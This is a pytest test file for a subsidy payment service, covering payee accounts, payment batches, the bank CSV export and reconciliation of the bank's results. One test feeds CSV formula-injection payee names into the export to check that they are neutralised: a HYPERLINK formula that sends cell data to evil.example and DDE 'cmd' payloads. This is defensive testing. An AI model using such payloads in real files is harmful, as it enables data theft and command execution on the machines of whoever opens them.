"""Payees, payment batches, the bank payment file and reconciliation with the bank's results."""

import uuid

import pytest
from sqlalchemy import select, text

from services.subsidies.payees.tables import Payee
from tests.subsidies.factories import (
    ACCOUNT,
    ADMIN,
    API,
    APPROVER,
    AUDITOR,
    CLERK,
    CLERK2,
    HEADER,
    OTHER_ACCOUNT,
    PARTNER,
    STORE,
    approve,
    dedicated_applications,
    export,
    get_app,
    get_fund,
    make_batch,
    payment_lines,
    principal,
    ready_applications,
    register_payee,
    send_results,
    verify,
)


class TestRegisterPayee:
    async def test_account_is_stored_encrypted_and_shown_masked(self, subsidies, feed):
        worker = await feed.worker()
        payee = await register_payee(subsidies, worker, account="6222 0202 0011 2233 445")
        assert payee["account_number"] == "*" * 15 + "3445"
        assert payee["holder_name"] == "王**"
        assert ACCOUNT not in str(payee)
        async with subsidies.sessionmaker() as s:
            row = await s.scalar(select(Payee).where(Payee.id == uuid.UUID(payee["id"])))
        assert ACCOUNT not in " ".join(str(v) for v in row.model_dump().values())
        r = await subsidies.client.get(f"{API}/payees/{payee['id']}", headers=AUDITOR)
        assert r.json()["account_number"].endswith("3445") and ACCOUNT not in r.text

    async def test_registering_again_replaces_the_account(self, subsidies, feed):
        worker = await feed.worker()
        first = await register_payee(subsidies, worker)
        second = await register_payee(subsidies, worker, account=OTHER_ACCOUNT)
        r = await subsidies.client.get(
            f"{API}/payees", headers=AUDITOR, params={"beneficiary_id": worker}
        )
        active = {p["id"]: p["active"] for p in r.json()["items"]}
        assert active == {first["id"]: False, second["id"]: True}

    @pytest.mark.parametrize("kind", ["worker", "employer", "workshop"])
    async def test_beneficiary_unknown_from_the_jobs_events_is_refused(self, subsidies, feed, kind):
        """Issue 8, item 7: a payee could be registered for a beneficiary that does not exist."""
        await feed.placement(kind="workshop")  # someone known, just not this one
        await feed.barrier()
        nobody = str(uuid.uuid4())
        r = await subsidies.client.post(
            f"{API}/payees",
            headers=CLERK,
            json={
                "beneficiary_kind": kind,
                "beneficiary_id": nobody,
                "holder_name": "王小梅",
                "account_number": ACCOUNT,
                "bank_name": "b",
            },
        )
        assert r.status_code == 422, r.text
        assert r.headers["content-type"] == "application/problem+json"
        assert r.json()["type"].endswith("beneficiary-unknown")
        assert nobody in r.json()["detail"] and kind in r.json()["detail"]
        assert ACCOUNT not in r.text
        async with subsidies.sessionmaker() as s:
            assert (await s.scalars(select(Payee))).all() == []

    async def test_workers_and_employers_known_from_placements_may_be_paid(self, subsidies, feed):
        p = await feed.placement(kind="workshop")
        await feed.barrier()
        await register_payee(subsidies, p["worker_id"])
        await register_payee(subsidies, p["employer_id"], kind="workshop")

    async def test_invalid_account_is_422_without_echoing_it(self, subsidies):
        r = await subsidies.client.post(
            f"{API}/payees",
            headers=CLERK,
            json={
                "beneficiary_kind": "worker",
                "beneficiary_id": str(uuid.uuid4()),
                "holder_name": "x",
                "account_number": "12345abc",
                "bank_name": "b",
            },
        )
        assert r.status_code == 422
        assert "12345abc" not in r.text

    @pytest.mark.parametrize("headers", [PARTNER, STORE, AUDITOR])
    async def test_other_roles_may_not_register(self, subsidies, headers):
        r = await subsidies.client.post(
            f"{API}/payees",
            headers=headers,
            json={
                "beneficiary_kind": "worker",
                "beneficiary_id": str(uuid.uuid4()),
                "holder_name": "x",
                "account_number": ACCOUNT,
                "bank_name": "b",
            },
        )
        assert r.status_code == 403


class TestCreateBatch:
    async def test_takes_every_ready_application(self, subsidies, feed):
        _, apps = await ready_applications(subsidies, feed, 2)
        batch = await make_batch(subsidies)
        assert batch["state"] == "draft"
        assert batch["line_count"] == 2 and batch["total_fen"] == 100_000
        assert {line["application_id"] for line in batch["lines"]} == {a["id"] for a in apps}
        assert all(line["account_number"].endswith("3445") for line in batch["lines"])
        for app in apps:
            assert (await get_app(subsidies, app["id"]))["state"] == "in_batch"

    async def test_nothing_ready_is_an_empty_batch_422(self, subsidies):
        r = await subsidies.client.post(f"{API}/batches", headers=CLERK, json={})
        assert r.status_code == 422
        assert r.json()["type"].endswith("empty-batch")

    async def test_taking_all_leaves_out_the_unpayable_and_lists_them(self, subsidies, feed):
        _, [paid, no_account] = await dedicated_applications(subsidies, feed, 2, notice_days=0)
        for app in (paid, no_account):
            await verify(subsidies, app["id"])
            await approve(subsidies, app["id"])
        await register_payee(subsidies, paid["beneficiary_id"])
        r = await subsidies.client.post(f"{API}/batches", headers=CLERK, json={})
        assert r.status_code == 201, r.text
        assert [line["application_id"] for line in r.json()["lines"]] == [paid["id"]]
        [skipped] = r.json()["skipped"]
        assert skipped["application_id"] == no_account["id"]
        assert "no bank account" in skipped["reason"]
        assert (await get_app(subsidies, no_account["id"]))["state"] == "ready_for_payment"
        assert (await get_app(subsidies, paid["id"]))["state"] == "in_batch"

    async def test_taking_all_when_none_is_payable_is_422_listing_them(self, subsidies, feed):
        _, [app] = await dedicated_applications(subsidies, feed, 1, notice_days=0)
        await verify(subsidies, app["id"])
        await approve(subsidies, app["id"])
        r = await subsidies.client.post(f"{API}/batches", headers=CLERK, json={})
        assert r.status_code == 422
        assert r.json()["type"].endswith("empty-batch")
        assert r.json()["problems"][0]["application_id"] == app["id"]

    async def test_unpayable_applications_refuse_the_whole_batch(self, subsidies, feed):
        _, apps = await dedicated_applications(subsidies, feed, 2, notice_days=0)
        ready, pending = apps
        await verify(subsidies, ready["id"])
        await approve(subsidies, ready["id"])  # ready, but no payee registered
        r = await subsidies.client.post(
            f"{API}/batches", headers=CLERK, json={"application_ids": [ready["id"], pending["id"]]}
        )
        assert r.status_code == 422
        problems = {p["application_id"]: p["problem"] for p in r.json()["problems"]}
        assert "no bank account" in problems[ready["id"]]
        assert "pending_verification" in problems[pending["id"]]
        assert (await get_app(subsidies, ready["id"]))["state"] == "ready_for_payment"

    async def test_application_in_notice_is_not_payable_until_notice_ends(
        self, subsidies, feed, clock
    ):
        from datetime import timedelta

        _, [app] = await dedicated_applications(subsidies, feed, 1, notice_days=5)
        await verify(subsidies, app["id"])
        await approve(subsidies, app["id"])
        await register_payee(subsidies, app["beneficiary_id"])
        r = await subsidies.client.post(
            f"{API}/batches", headers=CLERK, json={"application_ids": [app["id"]]}
        )
        assert r.status_code == 422
        assert "notice ends" in r.json()["problems"][0]["problem"]
        clock.now += timedelta(days=5)
        batch = await make_batch(subsidies, [app["id"]])  # the notice is closed on the way
        assert batch["line_count"] == 1

    @pytest.mark.parametrize("headers", [APPROVER, ADMIN, AUDITOR])
    async def test_only_clerks_run_payments(self, subsidies, feed, headers):
        _, [app] = await ready_applications(subsidies, feed, 1)
        r = await subsidies.client.post(f"{API}/batches", headers=headers, json={})
        assert r.status_code == 403
        assert (await get_app(subsidies, app["id"]))["state"] == "ready_for_payment"


class TestCreateBatchIdempotency:
    async def test_replayed_key_returns_the_same_batch(self, subsidies, feed):
        await ready_applications(subsidies, feed, 1)
        headers = CLERK | {"Idempotency-Key": "batch-2020-03"}
        first = await subsidies.client.post(f"{API}/batches", headers=headers, json={})
        again = await subsidies.client.post(f"{API}/batches", headers=headers, json={})
        assert first.status_code == again.status_code == 201
        assert again.json()["id"] == first.json()["id"]
        r = await subsidies.client.get(f"{API}/batches", headers=AUDITOR)
        assert len(r.json()["items"]) == 1


class TestExportBatch:
    async def test_export_has_clear_accounts_and_freezes_the_batch(self, subsidies, feed):
        _, apps = await ready_applications(subsidies, feed, 2)
        batch = await make_batch(subsidies)
        rows = await export(subsidies, batch["id"])
        assert [r["line_id"] for r in rows] == [line["id"] for line in batch["lines"]]
        assert {r["account_number"] for r in rows} == {ACCOUNT}
        assert {r["payee_name"] for r in rows} == {"王小梅"}
        assert {r["amount_fen"] for r in rows} == {"50000"}
        assert {r["currency"] for r in rows} == {"CNY"}
        assert {r["reference"] for r in rows} == {f"SUB-{a['id']}" for a in apps}
        r = await subsidies.client.get(f"{API}/batches/{batch['id']}", headers=AUDITOR)
        assert r.json()["state"] == "exported" and r.json()["exported_by"] == "user:clerk-1"
        assert ACCOUNT not in r.text

    async def test_names_that_spreadsheets_would_run_are_neutralised(self, subsidies, feed):
        # RELIABILITY #33: names typed into the platform reach the bank clerk's spreadsheet.
        names = [
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
        ]
        _, apps = await dedicated_applications(subsidies, feed, len(names), notice_days=0)
        for app, name in zip(apps, names, strict=True):
            await verify(subsidies, app["id"])
            await approve(subsidies, app["id"])
            r = await subsidies.client.post(
                f"{API}/payees",
                headers=CLERK2,
                json={
                    "beneficiary_kind": "worker",
                    "beneficiary_id": app["beneficiary_id"],
                    "holder_name": name,
                    "account_number": ACCOUNT,
                    "bank_name": "=1+2 Bank",
                },
            )
            assert r.status_code == 201, r.text
        batch = await make_batch(subsidies)
        rows = await export(subsidies, batch["id"])
        assert sorted(r["payee_name"] for r in rows) == sorted("'" + n for n in names)
        assert {r["bank_name"] for r in rows} == {"'=1+2 Bank"}
        assert {r["amount_fen"] for r in rows} == {"50000"}  # numbers stay numbers
        assert {r["account_number"] for r in rows} == {ACCOUNT}

    async def test_exporting_twice_is_refused(self, subsidies, feed):
        await ready_applications(subsidies, feed, 1)
        batch = await make_batch(subsidies)
        await export(subsidies, batch["id"])
        r = await subsidies.client.post(f"{API}/batches/{batch['id']}/export", headers=CLERK)
        assert r.status_code == 409
        assert "already exported" in r.json()["detail"]

    async def test_exporting_a_batch_without_lines_is_refused(self, subsidies, feed):
        await ready_applications(subsidies, feed, 1)
        batch = await make_batch(subsidies)
        async with subsidies.sessionmaker() as s, s.begin():  # emptied behind the API's back
            await s.execute(text("DELETE FROM batch_lines WHERE batch_id = :b"), {"b": batch["id"]})
        r = await subsidies.client.post(f"{API}/batches/{batch['id']}/export", headers=CLERK)
        assert r.status_code == 422
        assert r.json()["type"].endswith("empty-batch")
        r = await subsidies.client.get(f"{API}/batches/{batch['id']}", headers=AUDITOR)
        assert r.json()["state"] == "draft"

    async def test_line_whose_account_was_replaced_refuses_the_export(self, subsidies, feed):
        _, [kept, moved] = await ready_applications(subsidies, feed, 2)
        batch = await make_batch(subsidies)
        await register_payee(subsidies, moved["beneficiary_id"], account=OTHER_ACCOUNT)
        r = await subsidies.client.post(f"{API}/batches/{batch['id']}/export", headers=CLERK)
        assert r.status_code == 409, r.text
        assert r.json()["type"].endswith("batch-payee-replaced")
        assert ACCOUNT not in r.text and OTHER_ACCOUNT not in r.text
        [problem] = r.json()["problems"]
        line = next(li for li in batch["lines"] if li["application_id"] == moved["id"])
        assert (problem["line_no"], problem["line_id"]) == (line["line_no"], line["id"])
        r = await subsidies.client.get(f"{API}/batches/{batch['id']}", headers=AUDITOR)
        assert r.json()["state"] == "draft"
        # The clerk discards it and makes a new batch, which pays the new account.
        r = await subsidies.client.post(
            f"{API}/batches/{batch['id']}/discard", headers=CLERK, json={"reason": "new account"}
        )
        assert r.status_code == 200
        again = await make_batch(subsidies)
        rows = {row["reference"][4:]: row for row in await export(subsidies, again["id"])}
        assert rows[moved["id"]]["account_number"] == OTHER_ACCOUNT
        assert rows[kept["id"]]["account_number"] == ACCOUNT

    async def test_whoever_registered_an_account_in_the_batch_may_not_export_it(
        self, subsidies, feed
    ):
        _, [app, _other] = await ready_applications(subsidies, feed, 2)
        await register_payee(subsidies, app["beneficiary_id"], account=OTHER_ACCOUNT, who=CLERK)
        batch = await make_batch(subsidies)
        r = await subsidies.client.post(f"{API}/batches/{batch['id']}/export", headers=CLERK)
        assert r.status_code == 403, r.text
        assert r.json()["type"].endswith("maker-checker")
        line = next(li for li in batch["lines"] if li["application_id"] == app["id"])
        assert f"line(s) {line['line_no']} " in r.json()["detail"]
        r = await subsidies.client.get(f"{API}/batches/{batch['id']}", headers=AUDITOR)
        assert r.json()["state"] == "draft"
        entries = await audit_actions(subsidies, batch["id"])
        assert (entries[-1]["action"], entries[-1]["actor"]) == (
            "batch.export_refused",
            "user:clerk-1",
        )
        r = await subsidies.client.get(f"{API}/audit/verify", headers=AUDITOR)
        assert r.json()["ok"] is True
        # Clerk-2 registered the other account but not this one: clerk-2 may not either.
        r = await subsidies.client.post(f"{API}/batches/{batch['id']}/export", headers=CLERK2)
        assert r.status_code == 403
        third = principal("bureau_clerk", "clerk-3")
        r = await subsidies.client.post(f"{API}/batches/{batch['id']}/export", headers=third)
        assert r.status_code == 200, r.text

    async def test_unknown_batch_is_404(self, subsidies):
        r = await subsidies.client.post(f"{API}/batches/{uuid.uuid4()}/export", headers=CLERK)
        assert r.status_code == 404

    async def test_partner_key_is_403(self, subsidies, feed):
        await ready_applications(subsidies, feed, 1)
        batch = await make_batch(subsidies)
        r = await subsidies.client.post(f"{API}/batches/{batch['id']}/export", headers=PARTNER)
        assert r.status_code == 403


async def audit_actions(svc, entity_id: str) -> list[dict]:  # type: ignore[no-untyped-def]
    r = await svc.client.get(f"{API}/audit", headers=AUDITOR, params={"entity_id": entity_id})
    assert r.status_code == 200, r.text
    return r.json()["items"]  # type: ignore[no-any-return]


class TestDownloadBatchFile:
    async def test_lost_export_answer_is_downloaded_again_and_audited(self, subsidies, feed):
        await ready_applications(subsidies, feed, 2)
        batch = await make_batch(subsidies)
        exported = await subsidies.client.post(f"{API}/batches/{batch['id']}/export", headers=CLERK)
        r = await subsidies.client.get(f"{API}/batches/{batch['id']}/file", headers=CLERK2)
        assert r.status_code == 200, r.text
        assert r.text == exported.text
        assert r.headers["content-type"].startswith("text/csv")
        assert r.headers["cache-control"] == "no-store"
        entries = await audit_actions(subsidies, batch["id"])
        download = entries[-1]
        assert download["action"] == "batch.file_downloaded"
        assert download["actor"] == "user:clerk-2" and download["at"]
        assert "re-download" in download["reason"] and ACCOUNT not in str(entries)

    async def test_same_file_after_the_payee_account_was_replaced(self, subsidies, feed):
        _, [app] = await ready_applications(subsidies, feed, 1)
        batch = await make_batch(subsidies)
        first = await export(subsidies, batch["id"])
        await register_payee(subsidies, app["beneficiary_id"], account=OTHER_ACCOUNT)
        r = await subsidies.client.get(f"{API}/batches/{batch['id']}/file", headers=CLERK)
        assert payment_lines(r.text) == first

    async def test_file_is_never_stored_in_clear(self, subsidies, feed):
        await ready_applications(subsidies, feed, 1)
        batch = await make_batch(subsidies)
        await export(subsidies, batch["id"])
        await subsidies.client.get(f"{API}/batches/{batch['id']}/file", headers=CLERK)
        async with subsidies.sessionmaker() as s:
            for table in ("payment_batches", "batch_lines", "audit_entries", "outbox"):
                rows = (await s.execute(text(f"SELECT * FROM {table}"))).all()  # noqa: S608
                assert ACCOUNT not in str(rows), table

    async def test_draft_batch_has_no_file_409(self, subsidies, feed):
        await ready_applications(subsidies, feed, 1)
        batch = await make_batch(subsidies)
        r = await subsidies.client.get(f"{API}/batches/{batch['id']}/file", headers=CLERK)
        assert r.status_code == 409
        assert "export it first" in r.json()["detail"]

    async def test_unknown_batch_is_404(self, subsidies):
        r = await subsidies.client.get(f"{API}/batches/{uuid.uuid4()}/file", headers=CLERK)
        assert r.status_code == 404

    @pytest.mark.parametrize("headers", [PARTNER, STORE, AUDITOR])
    async def test_roles_that_may_not_export_are_403(self, subsidies, feed, headers):
        await ready_applications(subsidies, feed, 1)
        batch = await make_batch(subsidies)
        await export(subsidies, batch["id"])
        r = await subsidies.client.get(f"{API}/batches/{batch['id']}/file", headers=headers)
        assert r.status_code == 403
        assert ACCOUNT not in r.text


class TestDiscardBatch:
    async def test_applications_return_to_ready_and_can_be_batched_again(self, subsidies, feed):
        fund, apps = await ready_applications(subsidies, feed, 2)
        batch = await make_batch(subsidies)
        r = await subsidies.client.post(
            f"{API}/batches/{batch['id']}/discard",
            headers=CLERK,
            json={"reason": "wrong bank file format chosen"},
        )
        assert r.status_code == 200, r.text
        assert r.json()["state"] == "discarded" and r.json()["discarded_by"] == "user:clerk-1"
        for app in apps:
            assert (await get_app(subsidies, app["id"]))["state"] == "ready_for_payment"
        assert (await get_fund(subsidies, fund["id"]))["reserved_fen"] == 100_000
        entries = await audit_actions(subsidies, batch["id"])
        assert (entries[-1]["action"], entries[-1]["reason"]) == (
            "batch.discarded",
            "wrong bank file format chosen",
        )
        app_entries = await audit_actions(subsidies, apps[0]["id"])
        assert (app_entries[-1]["action"], app_entries[-1]["to_state"]) == (
            "unbatched",
            "ready_for_payment",
        )
        again = await make_batch(subsidies)
        assert again["line_count"] == 2
        r = await subsidies.client.post(f"{API}/batches/{batch['id']}/export", headers=CLERK)
        assert r.status_code == 409 and "discarded" in r.json()["detail"]

    async def test_discarded_application_can_then_be_cancelled(self, subsidies, feed):
        fund, [app] = await ready_applications(subsidies, feed, 1)
        batch = await make_batch(subsidies)
        r = await subsidies.client.post(
            f"{API}/applications/{app['id']}/cancel", headers=CLERK, json={"reason": "moved away"}
        )
        assert r.status_code == 409  # in a batch
        await subsidies.client.post(
            f"{API}/batches/{batch['id']}/discard", headers=CLERK, json={"reason": "redo"}
        )
        r = await subsidies.client.post(
            f"{API}/applications/{app['id']}/cancel", headers=CLERK, json={"reason": "moved away"}
        )
        assert r.status_code == 200
        assert (await get_fund(subsidies, fund["id"]))["reserved_fen"] == 0

    async def test_exported_batch_cannot_be_discarded(self, subsidies, feed):
        _, [app] = await ready_applications(subsidies, feed, 1)
        batch = await make_batch(subsidies)
        await export(subsidies, batch["id"])
        r = await subsidies.client.post(
            f"{API}/batches/{batch['id']}/discard", headers=CLERK, json={"reason": "redo"}
        )
        assert r.status_code == 409
        assert "may be at the bank" in r.json()["detail"]
        assert (await get_app(subsidies, app["id"]))["state"] == "in_batch"

    async def test_discard_publishes_an_event(self, subsidies, feed):
        await ready_applications(subsidies, feed, 1)
        batch = await make_batch(subsidies)
        await subsidies.client.post(
            f"{API}/batches/{batch['id']}/discard", headers=CLERK, json={"reason": "redo"}
        )
        async with subsidies.sessionmaker() as s:
            rows = (
                await s.execute(
                    text("SELECT payload FROM outbox WHERE subject = 'subsidies.batch.discarded'")
                )
            ).all()
        assert len(rows) == 1 and batch["id"] in str(rows[0])

    async def test_reason_is_required_and_roles_checked(self, subsidies, feed):
        await ready_applications(subsidies, feed, 1)
        batch = await make_batch(subsidies)
        r = await subsidies.client.post(f"{API}/batches/{batch['id']}/discard", headers=CLERK)
        assert r.status_code == 422
        r = await subsidies.client.post(
            f"{API}/batches/{batch['id']}/discard", headers=AUDITOR, json={"reason": "x"}
        )
        assert r.status_code == 403
        r = await subsidies.client.post(
            f"{API}/batches/{uuid.uuid4()}/discard", headers=CLERK, json={"reason": "x"}
        )
        assert r.status_code == 404


class TestImportResults:
    async def test_round_trip_paid_and_failed(self, subsidies, feed):
        fund, _ = await ready_applications(subsidies, feed, 3)
        batch = await make_batch(subsidies)
        rows = await export(subsidies, batch["id"])
        ok1, ok2, bad = rows
        body = (
            HEADER + f"{ok1['line_id']},paid,50000,BANK-001,\r\n"
            f"{ok2['line_id']},paid,50000,BANK-002,\r\n"
            f"{bad['line_id']},failed,50000,,account closed\r\n"
        )
        r = await send_results(subsidies, batch["id"], body)
        assert r.status_code == 200, r.text
        assert r.json() | {"batch_id": None} == {
            "batch_id": None,
            "state": "reconciled",
            "paid": 2,
            "failed": 1,
            "unchanged": 0,
            "pending": 0,
        }
        by_ref = {row["line_id"]: row["reference"][4:] for row in rows}
        assert (await get_app(subsidies, by_ref[ok1["line_id"]]))["state"] == "paid"
        assert (await get_app(subsidies, by_ref[bad["line_id"]]))["state"] == "failed"
        f = await get_fund(subsidies, fund["id"])
        assert (f["paid_fen"], f["reserved_fen"]) == (100_000, 50_000)
        r = await subsidies.client.get(f"{API}/batches/{batch['id']}", headers=AUDITOR)
        lines = {line["id"]: line for line in r.json()["lines"]}
        assert lines[ok1["line_id"]]["bank_reference"] == "BANK-001"
        assert lines[bad["line_id"]]["failure_reason"] == "account closed"

        # Importing the same file again changes nothing.
        r = await send_results(subsidies, batch["id"], body)
        assert r.status_code == 200
        assert (r.json()["paid"], r.json()["failed"], r.json()["unchanged"]) == (0, 0, 3)
        assert await get_fund(subsidies, fund["id"]) == f

    async def test_partial_file_leaves_other_lines_pending(self, subsidies, feed):
        await ready_applications(subsidies, feed, 2)
        batch = await make_batch(subsidies)
        first, _ = await export(subsidies, batch["id"])
        r = await send_results(
            subsidies, batch["id"], HEADER + f"{first['line_id']},paid,50000,B1,\r\n"
        )
        assert r.json()["state"] == "exported" and r.json()["pending"] == 1

    async def test_malformed_file_is_refused_with_line_numbers_and_nothing_applied(
        self, subsidies, feed
    ):
        fund, _ = await ready_applications(subsidies, feed, 3)
        batch = await make_batch(subsidies)
        a, b, c = await export(subsidies, batch["id"])
        body = (
            HEADER + f"{a['line_id']},paid,50000,B1,\r\n"  # line 2: fine
            f"{uuid.uuid4()},paid,50000,B2,\r\n"  # 3: unknown line
            f"{b['line_id']},paid,49999,B3,\r\n"  # 4: amount differs
            f"{a['line_id']},paid,50000,B1,\r\n"  # 5: duplicate
            f"{c['line_id']},refunded,50000,B4,\r\n"  # 6: bad status
            "not-a-uuid,paid,1,B5,\r\n"
        )  # 7: bad id
        r = await send_results(subsidies, batch["id"], body)
        assert r.status_code == 422
        assert r.headers["content-type"] == "application/problem+json"
        assert [p["line"] for p in r.json()["problems"]] == [3, 4, 5, 6, 7]
        assert "49999" not in r.json()["problems"][1]["problem"]
        r = await subsidies.client.get(f"{API}/batches/{batch['id']}", headers=AUDITOR)
        assert {line["status"] for line in r.json()["lines"]} == {"pending"}
        assert (await get_fund(subsidies, fund["id"]))["paid_fen"] == 0

    @pytest.mark.parametrize("body", ["", "a,b,c\r\n", HEADER, "\x00\x01\x02", "line_id\r\n"])
    async def test_not_a_result_file_is_422(self, subsidies, feed, body):
        await ready_applications(subsidies, feed, 1)
        batch = await make_batch(subsidies)
        await export(subsidies, batch["id"])
        r = await send_results(subsidies, batch["id"], body)
        assert r.status_code == 422
        assert r.json()["type"].endswith("bank-file-invalid")

    @pytest.mark.parametrize("amount", ["５００００", "٥٠٠٠٠", "50000²", "²", "+50000", " 5e4"])
    async def test_amount_in_anything_but_ascii_digits_is_422(self, subsidies, feed, amount):
        fund, _ = await ready_applications(subsidies, feed, 1)
        batch = await make_batch(subsidies)
        [row] = await export(subsidies, batch["id"])
        r = await send_results(
            subsidies, batch["id"], HEADER + f"{row['line_id']},paid,{amount},B1,\r\n"
        )
        assert r.status_code == 422, r.text
        assert r.json()["problems"][0]["line"] == 2
        assert "amount_fen must be 50000" in r.json()["problems"][0]["problem"]
        assert (await get_fund(subsidies, fund["id"]))["paid_fen"] == 0

    async def test_field_over_the_csv_size_limit_is_422_with_its_line(self, subsidies, feed):
        await ready_applications(subsidies, feed, 1)
        batch = await make_batch(subsidies)
        [row] = await export(subsidies, batch["id"])
        body = HEADER + f"{row['line_id']},failed,50000,,{'x' * 200_000}\r\n"
        r = await send_results(subsidies, batch["id"], body)
        assert r.status_code == 422, r.text
        assert r.json()["type"].endswith("bank-file-invalid")
        assert r.json()["problems"][0]["line"] == 2
        assert "field larger than field limit" in r.json()["problems"][0]["problem"]
        r = await subsidies.client.get(f"{API}/batches/{batch['id']}", headers=AUDITOR)
        assert {line["status"] for line in r.json()["lines"]} == {"pending"}

    async def test_result_for_an_unexported_batch_is_409(self, subsidies, feed):
        await ready_applications(subsidies, feed, 1)
        batch = await make_batch(subsidies)
        line = batch["lines"][0]
        r = await send_results(subsidies, batch["id"], HEADER + f"{line['id']},paid,50000,B,\r\n")
        assert r.status_code == 409

    async def test_contradicting_a_paid_line_is_409(self, subsidies, feed):
        fund, _ = await ready_applications(subsidies, feed, 1)
        batch = await make_batch(subsidies)
        [row] = await export(subsidies, batch["id"])
        await send_results(subsidies, batch["id"], HEADER + f"{row['line_id']},paid,50000,B1,\r\n")
        r = await send_results(
            subsidies, batch["id"], HEADER + f"{row['line_id']},failed,50000,,bounced\r\n"
        )
        assert r.status_code == 409
        assert r.json()["problems"][0]["line"] == 2
        assert (await get_fund(subsidies, fund["id"]))["paid_fen"] == 50_000


class TestFailedPayments:
    async def _failed(self, subsidies, feed):  # type: ignore[no-untyped-def]
        fund, [app] = await ready_applications(subsidies, feed, 1)
        batch = await make_batch(subsidies)
        [row] = await export(subsidies, batch["id"])
        r = await send_results(
            subsidies, batch["id"], HEADER + f"{row['line_id']},failed,50000,,account closed\r\n"
        )
        assert r.status_code == 200
        return fund, app

    async def test_failed_line_goes_into_a_later_batch_after_the_payee_is_fixed(
        self, subsidies, feed
    ):
        fund, app = await self._failed(subsidies, feed)
        r = await subsidies.client.post(
            f"{API}/batches", headers=CLERK, json={"application_ids": [app["id"]]}
        )
        assert r.status_code == 422
        assert "not been corrected" in r.json()["problems"][0]["problem"]
        await register_payee(subsidies, app["beneficiary_id"], account=OTHER_ACCOUNT)
        batch = await make_batch(subsidies, [app["id"]])
        [row] = await export(subsidies, batch["id"])
        assert row["account_number"] == OTHER_ACCOUNT
        r = await send_results(
            subsidies, batch["id"], HEADER + f"{row['line_id']},paid,50000,B9,\r\n"
        )
        assert r.json()["paid"] == 1
        f = await get_fund(subsidies, fund["id"])
        assert (f["paid_fen"], f["reserved_fen"]) == (50_000, 0)

    async def test_cancelling_a_failed_payment_releases_the_money(self, subsidies, feed):
        fund, app = await self._failed(subsidies, feed)
        r = await subsidies.client.post(
            f"{API}/applications/{app['id']}/cancel",
            headers=APPROVER,
            json={"reason": "worker unreachable"},
        )
        assert r.status_code == 200
        f = await get_fund(subsidies, fund["id"])
        assert (f["paid_fen"], f["reserved_fen"]) == (0, 0)

    async def test_paid_is_final(self, subsidies, feed):
        _, [app] = await ready_applications(subsidies, feed, 1)
        batch = await make_batch(subsidies)
        [row] = await export(subsidies, batch["id"])
        await send_results(subsidies, batch["id"], HEADER + f"{row['line_id']},paid,50000,B1,\r\n")
        for action in ("cancel", "reject"):
            r = await subsidies.client.post(
                f"{API}/applications/{app['id']}/{action}", headers=APPROVER, json={"reason": "try"}
            )
            assert r.status_code == 409
        assert (await get_app(subsidies, app["id"]))["state"] == "paid"
